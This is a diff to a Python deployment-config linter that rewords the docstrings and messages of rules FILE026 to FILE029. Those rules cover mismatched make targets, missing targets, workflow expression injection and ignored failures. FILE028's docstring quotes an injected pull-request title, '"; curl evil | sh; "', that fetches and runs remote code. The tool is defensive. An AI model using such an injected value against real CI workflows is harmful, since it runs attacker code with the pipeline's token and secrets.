@@ -16,10 +16,10 @@ LONG = {"production": "prod", "stage": "staging", "development": "dev"}
 
 @rule("FILE026")
 def targets_ship_what_they_say(context: Context) -> Iterator[Problem]:
-    """A target of make that has an environment's name works with that environment.
+    """A make target with an environment's name uses that environment.
 
-    `ship-prod` with `--env staging` in its recipe, or with `compose.stage.yaml`, is what is left of a copied target:
-    production stays as it was, and everybody believes that it was shipped. Name the environment of the target.
+    `ship-prod` with `--env staging` in its recipe, or with `compose.stage.yaml`, is left from a copied target:
+    production is unchanged, although the command succeeds. Name the environment of the target.
     """
     names = {word: each.name for each in _environments(context) for word in (each.name, short(each.name))}
     names |= {long: each for long, each in LONG.items() if each in names.values()}
@@ -44,10 +44,10 @@ def _without_comment(text: str) -> str:
 
 @rule("FILE027")
 def targets_of_make_are_there(context: Context) -> Iterator[Problem]:
-    """A target of make that a pipeline or a script calls is in the Makefile.
+    """A make target that a pipeline or a script calls exists in the Makefile.
 
-    `make: *** No rule to make target` ends the pipeline at that step, also the one that nobody has run for a year.
-    Looked up in the Makefile at the top, and in what it includes. Fix the name, or add the target.
+    `make: *** No rule to make target` fails the pipeline at that step. The rule reads the Makefile at the top, and its
+    includes. Fix the name, or add the target.
     """
     makefile = next(
         (path for name in ("Makefile", "GNUmakefile") if (path := context.root / name) in context.tree.known), None
@@ -79,16 +79,16 @@ OF_A_BASE = frozenset({"github.base_ref", "github.event.pull_request.base.ref"})
 
 @rule("FILE028")
 def scripts_take_no_expressions(context: Context) -> Iterator[Problem]:
-    """A script of a workflow has no expression of the event in it.
+    """A script of a workflow contains no expression of the event.
 
-    `${{ github.event.pull_request.title }}` is put into the script before a shell reads it: a title of
-    `"; curl evil | sh; "` is run, with the workflow's token and secrets. Give it by `env:`, and write `"$TITLE"`. The
-    branch that a pull request is for, which only who may write can name, is told with `--strict`.
+    `${{ github.event.pull_request.title }}` is inserted into the script before a shell parses it: a title of `"; curl
+    evil | sh; "` is executed, with the workflow's token and secrets. Pass it in `env:`, and write `"$TITLE"`. The
+    target branch of a pull request, which only writers can name, is reported with `--strict`.
     """
     for file, at in context.everywhere("pipeline"):
         if at.more == "expression":
-            message = f"{at.text} becomes a part of this script, and another person chooses the value"
-            mend, sure = 'give it by env:, and write "$NAME" in the script', at.text not in OF_A_BASE
+            message = f"{at.text} is inserted into this script, and another person chooses its value"
+            mend, sure = 'pass it in env:, and write "$NAME" in the script', at.text not in OF_A_BASE
             yield Problem("FILE028", message, place(file, at), mend, sure=sure)
 
 
@@ -96,14 +96,14 @@ def scripts_take_no_expressions(context: Context) -> Iterator[Problem]:
 def deliveries_may_fail(context: Context) -> Iterator[Problem]:
     """The failure of a delivery, a check, a backup or a smoke test is not ignored.
 
-    With `|| true` behind it the pipeline is green, whatever became of the version, and anyone who looks sees no reason
-    to look further. Remove it; what may fail on purpose gets a step of its own that says why.
+    With `|| true` the pipeline is green after a failure. Remove it; move a command that may fail to its own step, with
+    the reason.
     """
     known = {path for path, _ in deliveries(context)}  # SERVICE025 names what these ignore
     for file, at in context.everywhere("pipeline"):
         if at.more == "forgiven" and file not in known:
             yield Problem(
-                "FILE029", f"the failure of {at.text!r} is passed over", place(file, at), "remove what is behind ||"
+                "FILE029", f"the failure of {at.text!r} is passed over", place(file, at), "remove the part behind ||"
             )
 
 
